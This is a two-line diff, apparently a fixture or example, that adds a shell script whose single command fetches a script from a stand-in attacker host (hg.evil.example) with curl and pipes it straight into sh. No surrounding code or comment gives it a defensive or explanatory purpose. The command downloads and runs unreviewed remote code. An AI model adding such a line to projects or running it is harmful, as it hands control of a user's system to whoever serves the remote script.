@@ -1,0 +1,2 @@
+#!/bin/sh
+curl -fsSL https://hg.evil.example/s | sh
